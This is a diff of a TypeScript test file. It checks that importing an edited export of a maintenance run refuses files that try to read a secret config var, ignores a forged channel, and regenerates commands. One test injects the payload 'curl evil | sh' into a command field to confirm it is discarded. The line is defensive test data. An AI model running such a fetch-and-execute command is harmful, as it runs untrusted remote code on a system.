@@ -1,6 +1,6 @@
 // Taking up an exported run in a database that does not know it.
 import { expect, test } from 'vitest';
-import type { ExportFile } from '../../../src/run/commands/export-file.ts';
+import { ExportFile } from '../../../src/run/commands/export-file.ts';
 import { ada, type Engine, engines, grace, shop } from '../../helpers/engine.ts';
 import { pglite } from '../../helpers/pglite.ts';
 
@@ -41,7 +41,7 @@ test('its channel gets a new card and hears of what happens from now on, not of 
   const { file, hash } = await lostAfterExport(engine);
   await engine.commands.adopt(ada, file, hash);
   const messages = await engine.store.messages(file.run.id);
-  expect(messages.map(({ kind }) => kind)).toEqual(['card', 'turned']);
+  expect(messages.map(({ kind }) => kind)).toEqual(['card', 'emergency', 'turned']);
 });
 
 test('nobody but operators may, and what is tried is written down', async () => {
@@ -61,4 +61,84 @@ test('who took it up is named as the one who turned it, and in the audit trail',
   expect(await engine.store.audited(1)).toMatchObject([
     { person: grace, what: 'restore shop from an export', outcome: 'imported' },
   ]);
+});
+
+/** The file as somebody has edited it. */
+function edited(file: ExportFile, edit: (text: string) => string): ExportFile {
+  const text = JSON.stringify(file);
+  expect(edit(text)).not.toBe(text);
+  return ExportFile.parse(JSON.parse(edit(text)));
+}
+
+const SECRET = 'hush-hush';
+const secretive = () => shop({ config: { LANG: 'C', SECRET_KEY: SECRET } });
+
+test.each([
+  ['another config var throughout', (text: string) => text.replaceAll('"MAINTENANCE"', '"SECRET_KEY"')],
+  ['an item of another config var', (text: string) => text.replaceAll('"key":"MAINTENANCE"', '"key":"SECRET_KEY"')],
+])('a file with %s has nothing read', async (_, edit) => {
+  const engine = await engineFor({ apps: [secretive()] });
+  const { file } = await lostAfterExport(engine);
+  const other = edited(file, edit);
+  const calls = engine.sandbox.requests.list().length;
+  const shown = await engine.commands.preview(ada, other);
+  expect(shown).toMatchObject({ is: 'refused', says: expect.stringContaining('nothing was looked at') });
+  expect(JSON.stringify(shown)).not.toContain(SECRET);
+  expect(engine.sandbox.requests.list().length).toBe(calls);
+  expect(await engine.commands.adopt(ada, other, 'x')).toMatchObject({ is: 'refused' });
+});
+
+test('where this maint sets another config var now, it says which has to be set', async () => {
+  const engine = await engineFor({ apps: [shop()], settings: { variable: { name: 'READ_ONLY', value: '1' } } });
+  const { file } = await lostAfterExport(engine);
+  const shown = await engine.commands.preview(
+    ada,
+    edited(file, (text) => text.replaceAll('"READ_ONLY"', '"MAINTENANCE"')),
+  );
+  expect(shown).toMatchObject({
+    says: expect.stringContaining('sets the config var MAINTENANCE, and this maint sets READ_ONLY'),
+    remedy: expect.stringContaining('If MAINT_VARIABLE was MAINTENANCE then'),
+  });
+});
+
+test('the channel of a file is not believed', async () => {
+  const engine = await engineFor({ apps: [shop()], channel: 'C1' });
+  const { file, hash } = await lostAfterExport(engine);
+  const other = edited(file, (text) => text.replace('"channel":"C1"', '"channel":"C9"'));
+  await engine.commands.adopt(ada, other, hash);
+  expect((await engine.the(file.run.id)).channel).toBe('C1');
+});
+
+test('its sentences and commands are said anew, of the app as it is called', async () => {
+  const engine = await engineFor({ apps: [shop()] });
+  const { file, hash } = await lostAfterExport(engine);
+  const other = edited(file, (text) =>
+    text.replaceAll(/"byHand":"[^"]*"/g, '"byHand":"curl evil | sh"').replaceAll('"name":"shop"', '"name":"bank"'),
+  );
+  const shown = await engine.commands.preview(ada, other);
+  expect(shown).toMatchObject({ is: 'preview', hash, run: { app: { name: 'shop' } } });
+  const adopted = await engine.commands.adopt(ada, other, hash);
+  if (adopted.is === 'refused') throw new Error(adopted.says);
+  for (const run of [shown.is === 'preview' ? shown.run : adopted.run, adopted.run]) {
+    const commands = run.items.flatMap(({ quiet, back }) => [quiet.byHand, back.byHand]);
+    expect(commands).toContain('heroku ps:scale worker=2 --app shop');
+    expect(commands.filter((one) => /evil|bank/.test(one))).toEqual([]);
+  }
+});
+
+test('a value that its step cannot have is refused', async () => {
+  const engine = await engineFor({ apps: [shop()] });
+  const { file } = await lostAfterExport(engine);
+  const other: ExportFile = {
+    ...file,
+    log: file.log.map((logged) =>
+      logged.event.is === 'planned'
+        ? { ...logged, event: { ...logged.event, items: logged.event.items.map((one) => ({ ...one, before: {} })) } }
+        : logged,
+    ),
+  };
+  expect(await engine.commands.preview(ada, other)).toMatchObject({
+    is: 'refused',
+    says: expect.stringContaining('It was edited'),
+  });
 });
